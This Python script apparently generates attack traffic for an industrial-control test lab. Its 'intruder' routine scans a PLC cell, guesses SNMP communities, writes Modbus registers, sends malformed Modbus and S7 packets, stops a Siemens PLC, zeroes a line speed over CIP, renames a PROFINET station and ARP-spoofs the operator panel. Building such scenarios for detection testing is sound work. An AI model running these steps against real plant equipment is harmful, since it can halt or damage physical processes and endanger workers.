"""An unknown machine in the cell looks for plant devices, then meddles; and two machines misbehave."""

from __future__ import annotations

import contextlib
import logging
import socket
import struct
import sys
import time

from pymodbus.client import ModbusTcpClient
from snap7.client import Client as S7Client

from responders import cip, dcp, snmp
from responders.cip_client import CipClient, list_identity, write_tag
from responders.frames import BROADCAST, arp, ethernet, mac, raw_socket
from responders.network import BY_NAME, HOSTS, ip_of
from responders.panel_client import terminal
from responders.services import announce_mdns, ask_name, dhcp_lease
from responders.tls_ends import meet

_CELL = [f"192.168.10.{n}" for n in range(1, 65)]
_OWN = mac(BY_NAME["intruder"].mac)


def look_around() -> None:
    """Ask for every address of the cell, then knock on control ports."""
    with raw_socket(0x0806) as sender:
        for address in _CELL:
            body = arp(1, (_OWN, ip_of("intruder")), (bytes(6), address))
            sender.send(ethernet(BROADCAST, _OWN, 0x0806, body))
            time.sleep(0.01)
    present = [host.ip for host in HOSTS if host.switch == "cell" and host.name != "intruder"]
    for port in (502, 102, 44818, 4840):
        for address in present:
            with socket.socket() as knock:
                knock.settimeout(0.2)
                knock.connect_ex((address, port))
            time.sleep(0.02)


def probe_mixer() -> None:
    """Try addresses and functions until PLC A has refused often, then write where it does not."""
    with ModbusTcpClient(ip_of("plc-a")) as client:
        client.read_device_information(read_code=1, device_id=1)
        for address in range(200, 4700, 100):
            client.read_holding_registers(address, count=10, device_id=1)
        for address in (0, 8, 16, 20, 24):
            client.write_registers(address, [0] * 4, device_id=1)
        for coil in range(8):
            client.write_coil(coil, False, device_id=1)


def garble() -> None:
    """Send PLC A what no Modbus client sends, and PLC B a packet that lies about its length."""
    wrong = (
        struct.pack(">HHHBBHH", 1, 0x1234, 6, 1, 3, 0, 4),  # protocol identifier is not Modbus
        struct.pack(">HHHBBHH", 2, 0, 6, 1, 3, 0, 0xFFFF),  # 65,535 registers at once
        struct.pack(">HHHBBHHB", 3, 0, 9, 1, 16, 0, 8, 16) + bytes(2),  # sixteen octets promised, two sent
        struct.pack(">HHHBBHHBBB", 4, 0, 9, 1, 16, 0, 1, 9, 0, 1),  # byte count contradicts the length
        struct.pack(">HHHBB", 5, 0, 2, 1, 0x5A),  # a vendor's function without its body
    )
    for octets in wrong:
        with socket.create_connection((ip_of("plc-a"), 502), 3) as stream:
            stream.sendall(octets)
            stream.settimeout(0.3)
            with contextlib.suppress(OSError):
                stream.recv(512)
    with socket.create_connection((ip_of("plc-b"), 102), 3) as stream:
        stream.sendall(
            b"\x03\x00\x00\x16\x11\xe0\x00\x00\x00\x01\x00\xc0\x01\x0a\xc1\x02\x01\x00\xc2\x02\x01\x02"
        )
        stream.settimeout(0.5)
        with contextlib.suppress(OSError):
            stream.recv(512)
            stream.sendall(
                b"\x03\x00\x00\x1d\x02\xf0\x80\x32\x01\x00\x00\x00\x02\x00\xff\x00\xff\x04\x01" + bytes(10)
            )
            stream.recv(512)


def stop_filler() -> None:
    """Stop PLC B."""
    client = S7Client()
    client.connect(ip_of("plc-b"), 0, 2)
    client.get_cpu_info()
    client.upload(10)
    client.plc_stop()
    client.disconnect()


def stop_packer() -> None:
    """Find PLC C and set its speed to nothing."""
    list_identity("192.168.10.255", 0.5)
    client = CipClient(ip_of("plc-c"))
    client.unconnected(cip.request(cip.GET_ALL, cip.object_path(1, 1)))
    client.unconnected(cip.through_slot(0, write_tag("Line2_Speed", 0.0)))
    client.close()


def rename_station() -> None:
    """Take the I/O station its name by DCP."""
    with raw_socket(dcp.ETHERTYPE) as sender:
        ask = dcp.block(dcp.ALL, b"")
        sender.send(dcp.frame((dcp.EVERYONE, _OWN), dcp.IDENTIFY_REQUEST, (dcp.IDENTIFY, 0), 0x66000001, ask))
        time.sleep(0.5)
        blocks = dcp.answered(dcp.NAME, b"x")
        station = mac(BY_NAME["io"].mac)
        sender.send(dcp.frame((station, _OWN), dcp.GET_SET, (dcp.SET, dcp.REQUEST), 0x66000002, blocks))


def take_address(seconds: float = 2.5) -> None:
    """Claim the panel's address towards PLC A and PLC B, then give it back."""
    panel = ip_of("hmi")
    with raw_socket(0x0806) as sender:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for name in ("plc-a", "plc-b"):
                victim = mac(BY_NAME[name].mac)
                body = arp(2, (_OWN, panel), (victim, ip_of(name)))
                sender.send(ethernet(victim, _OWN, 0x0806, body))
            time.sleep(0.4)
        for name in ("plc-a", "plc-b"):
            victim, true = mac(BY_NAME[name].mac), mac(BY_NAME["hmi"].mac)
            body = arp(2, (true, panel), (victim, ip_of(name)))
            sender.send(ethernet(victim, _OWN, 0x0806, body))


def intruder() -> None:
    """All of it, in the order in which such things happen."""
    dhcp_lease("intruder", "raspberrypi", "dhcpcd-9.4.1:Linux-5.15:armv7l")
    announce_mdns("raspberrypi", ip_of("intruder"), "_workstation._tcp")
    time.sleep(2)
    look_around()
    for community in ("private", "admin", "public"):
        snmp.ask(ip_of("switch"), community, [f"{snmp.SYSTEM}.1.0"])
    with contextlib.suppress(OSError):
        terminal(ip_of("switch"))
    for step in (probe_mixer, garble, stop_packer, rename_station, take_address, stop_filler):
        time.sleep(3)
        step()


def home() -> None:
    """PLC B resolves a name of the Internet and talks to its address."""
    for identifier in range(3):
        ask_name("updates.vendor.example", 0x2200 + identifier)
        meet(ip_of("public"), 443, "1.2", "1.3", "updates.vendor.example")
        time.sleep(6)


def office() -> None:
    """A machine of the office network writes to PLC A, across the router."""
    with ModbusTcpClient(ip_of("plc-a")) as client:
        for cycle in range(6):
            client.read_holding_registers(0, count=8, device_id=1)
            client.write_register(21, 1000 + cycle, device_id=1)
            time.sleep(2)


if __name__ == "__main__":
    logging.disable(logging.WARNING)
    {"intruder": intruder, "home": home, "office": office}[sys.argv[1]]()
